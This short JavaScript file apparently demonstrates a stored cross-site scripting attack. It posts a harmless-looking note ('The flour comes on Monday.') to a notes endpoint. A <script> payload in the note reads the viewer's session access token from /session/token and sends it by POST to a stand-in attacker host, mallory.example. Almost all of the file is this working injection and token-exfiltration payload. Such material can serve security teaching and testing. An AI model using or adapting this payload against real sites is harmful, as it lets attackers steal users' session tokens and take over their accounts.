// Leaves a note for Ana. Anyone may do that.
import { send } from '../http.js';

//#region note
const script = `
  fetch('/session/token')
    .then((answer) => answer.json())
    .then(({ access_token }) => fetch('https://mallory.example:8443/loot', { method: 'POST', body: access_token }));`;

const body = new URLSearchParams({
  author: 'Miller & Sons',
  note: `The flour comes on Monday.<script>${script}</script>`,
});
const { status } = await send('https://app.tally.example:8443/notes', { method: 'POST', body });
//#endregion
console.log(`POST /notes: ${status}`);
